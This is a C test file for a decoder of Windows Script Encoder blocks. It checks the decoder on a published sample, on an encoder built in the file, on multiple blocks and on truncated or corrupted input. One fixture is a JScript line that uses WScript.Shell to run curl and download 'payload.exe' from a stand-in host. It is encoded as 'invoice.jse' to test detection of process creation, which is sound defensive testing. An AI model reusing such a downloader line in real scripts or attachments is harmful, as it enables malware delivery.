/* SPDX-License-Identifier: Apache-2.0
 * Scripts in the code of the Windows Script Encoder: a published one, ones made here, broken ones. */
#include "base/text.h"
#include "open/opener.h"
#include "open/script_encoded.h"
#include "tap.h"

#include <talloc.h>

/* MsgBox "Hello", as published with decode-vbe. */
#define HELLO "#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@"

static void add_number(struct text *out, uint32_t n)
{
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    uint64_t bits = 0;
    for (int i = 0; i < 4; i++)
        bits = bits << 8 | (n >> 8 * i & 0xFF);
    bits <<= 4;
    for (int i = 5; i >= 0; i--)
        text_add_byte(out, (uint8_t)digits[bits >> 6 * i & 63]);
    text_add_string(out, "==");
}

/* What stands for PLAIN at turn N: tried out, so that the tables stand in one place only. */
static uint8_t code_of(struct arena *arena, uint8_t plain, size_t n)
{
    struct script_encoded found;
    for (int c = 9; c < 128; c = c == 9 ? 32 : c + 1) {
        struct text probe;
        text_init(&probe, arena, 0);
        text_add_string(&probe, "#@~^AAAAAA==");
        for (size_t i = 0; i < n; i++)
            text_add_byte(&probe, 'a');
        text_add_byte(&probe, (uint8_t)c);
        text_add_string(&probe, "AAAAAA==^#~@");
        struct bytes clear = script_decode(arena, text_bytes(&probe), &found);
        if (c != '@' && c != '<' && c != '>' && clear.len == n + 1 && clear.at[n] == plain)
            return (uint8_t)c;
    }
    return 0;
}

static struct bytes encode(struct arena *arena, const char *plain)
{
    struct text out;
    uint32_t sum = 0;
    text_init(&out, arena, 0);
    text_add_string(&out, "#@~^");
    add_number(&out, (uint32_t)strlen(plain));
    for (size_t i = 0; plain[i] != 0; i++) {
        static const char from[] = "\n\r><@", to[] = "&#*!$";
        const char *mark = strchr(from, plain[i]);
        if (mark != NULL)
            text_add_byte(&out, '@'), text_add_byte(&out, (uint8_t)to[mark - from]);
        else
            text_add_byte(&out, (uint8_t)plain[i] >= 0x80 ? (uint8_t)plain[i] : code_of(arena, (uint8_t)plain[i], i));
        sum += (uint8_t)plain[i];
    }
    add_number(&out, sum);
    text_add_string(&out, "^#~@");
    return text_bytes(&out);
}

static struct tree *opened(struct arena *arena, struct budget *budget, struct bytes content, const char *name)
{
    budget_init(budget);
    struct tree *tree = tree_new(arena, budget, content, bytes_of_string(name));
    open_tree(tree->root);
    return tree;
}

int main(void)
{
    struct arena *arena = arena_new(NULL);
    struct script_encoded found;
    struct budget budget;
    tap_string(script_decode(arena, BYTES(HELLO), &found), "MsgBox \"Hello\"", "the published script");
    tap_ok(found.blocks == 1 && !found.broken && !found.doubtful, "its length and sum are right");
    static const char download[] = "var s = new ActiveXObject(\"WScript.Shell\");\r\nif (1 < 2 && 3 > 2)\r\n"
                                   "\ts.Run(\"cmd /c curl -o a.exe http://drop.test/\" + \"payload.exe @home\");\r\n";
    struct bytes coded = encode(arena, download);
    tap_string(script_decode(arena, coded, &found), download, "line ends, tabs, < > and @, past a turn of 64");
    tap_ok(!found.broken && !found.doubtful, "whole");
    struct text two;
    text_init(&two, arena, 0);
    text_add_string(&two, "var a = 1;\n");
    text_add(&two, coded);
    text_add_string(&two, "\nvar b = 2;\n");
    text_add(&two, coded);
    struct bytes both = script_decode(arena, text_bytes(&two), &found);
    tap_ok(found.blocks == 2 && bytes_starts(both, BYTES("var a = 1;\nvar s")) &&
               bytes_find(both, BYTES("\nvar b = 2;\nvar s"), 0) != BYTES_NPOS,
           "two blocks, what stands around them stays");
    struct tree *tree = opened(arena, &budget, coded, "invoice.jse");
    bool fetched = false;
    for (uint32_t i = 0; i < tree->count; i++)
        fetched = fetched || value_is_true(node_get(tree->node[i], FACT_SCRIPT_CREATES_PROCESS));
    tap_ok(tree->count >= 2 && fetched && tree->root->first_anomaly == NULL, "what it does is seen");
    tree = opened(arena, &budget, bytes_sub(coded, 0, coded.len - 20), "cut.jse");
    tap_ok(tree->root->first_anomaly != NULL && tree->root->first_anomaly->code == ANOMALY_UNDECODABLE,
           "a block without its end is told");
    struct bytes changed = arena_copy(arena, coded);
    ((uint8_t *)(uintptr_t)changed.at)[40] ^= 1;
    tree = opened(arena, &budget, changed, "changed.jse");
    tap_ok(tree->count >= 2 && tree->root->first_anomaly != NULL, "a wrong sum is told, the text is read all the same");
    script_decode(arena, BYTES("#@~^"), &found);
    tap_ok(found.broken && found.blocks == 0, "a mark alone");
    tap_ok(script_decode(arena, BYTES("x = '#@~'"), &found).len == 9 && !found.broken, "something that only looks like it");
    talloc_free(arena);
    return tap_end();
}
